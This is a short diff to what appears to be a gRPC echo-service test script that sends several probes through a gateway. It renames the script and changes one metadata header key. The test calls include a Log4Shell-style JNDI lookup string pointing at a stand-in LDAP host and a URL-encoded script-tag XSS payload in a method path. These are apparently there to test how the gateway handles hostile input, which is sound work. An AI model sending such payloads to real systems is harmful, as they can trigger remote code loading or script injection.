@@ -1,4 +1,4 @@
-"""A service of gRPC and its client in one process: `grpc.py GATE PORT` serves on PORT what a gate leads
+"""A service of gRPC and its client in one process: `echo_service.py GATE PORT` serves on PORT what a gate leads
 there, calls it through GATE, and prints what came of each call."""
 
 import json
@@ -53,7 +53,7 @@ with grpc.insecure_channel(gate) as channel:
         "said": outcome(say),
         "large": len(say(b"x" * 1_000_000, timeout=PATIENCE)),
         "conversation": conversation(channel),
-        "metadata": outcome(say, ("x-user", "${jndi:ldap://a.example/x}")),
+        "metadata": outcome(say, ("x-note", "${jndi:ldap://a.example/x}")),
         "path": outcome(channel.unary_unary("/demo.Echo/%3Cscript%3Ealert(1)%3C/script%3E")),
         "unknown": outcome(channel.unary_unary("/demo.Echo/Nothing")),
     }))
